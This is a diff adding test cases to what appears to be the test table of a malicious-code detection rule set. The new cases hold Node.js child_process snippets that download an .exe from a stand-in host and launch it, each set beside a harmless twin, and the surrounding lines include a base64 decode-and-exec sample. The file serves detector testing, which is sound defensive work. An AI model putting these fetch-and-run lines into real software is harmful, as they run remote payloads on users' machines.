@@ -47,6 +47,20 @@ CASES: list[tuple[Rule, str, str, str]] = [
         "import requests\nr = requests.get(u)\nopen(p, 'wb').write(r.content)\n",
     ),
     (
+        executes_code_at_remote_url_rule,
+        "hide.js",
+        "const { exec } = require('child_process');\nconst url = 'https://x.example.net/c.exe';\n"
+        "exec(`curl -o ${dest} ${url}`, () => exec(`start ${dest}`));\n",
+        "const { exec } = require('child_process');\nconst url = 'https://x.example.net/c.zip';\n"
+        "exec(`curl -o ${dest} ${url}`, () => exec(`unzip ${dest}`));\n",
+    ),
+    (
+        executes_code_at_remote_url_rule,
+        "load.js",
+        "require('child_process').exec('node l.js https://x.example.net/a.exe aa.exe', cb);\n",
+        "require('child_process').exec('node l.js https://x.example.net/a.json a.json', cb);\n",
+    ),
+    (
         decode_and_execute_rule,
         "m.py",
         "import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))\n",
